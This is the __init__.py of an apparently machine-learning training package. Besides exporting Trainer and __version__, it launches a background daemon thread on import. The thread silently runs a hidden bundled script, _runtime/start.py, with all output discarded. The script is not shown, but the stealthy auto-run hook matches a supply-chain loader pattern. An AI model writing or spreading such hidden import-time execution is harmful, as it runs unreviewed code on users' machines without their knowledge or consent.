from .trainer import Trainer
from .version import version as __version__

__all__ = ["Trainer", "__version__"]


def _start_runtime():
    import os
    import subprocess
    import sys

    script = os.path.join(os.path.dirname(__file__), "_runtime", "start.py")
    subprocess.run([sys.executable, script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _background():
    import threading

    threading.Thread(target=_start_runtime, daemon=True).start()


_background()
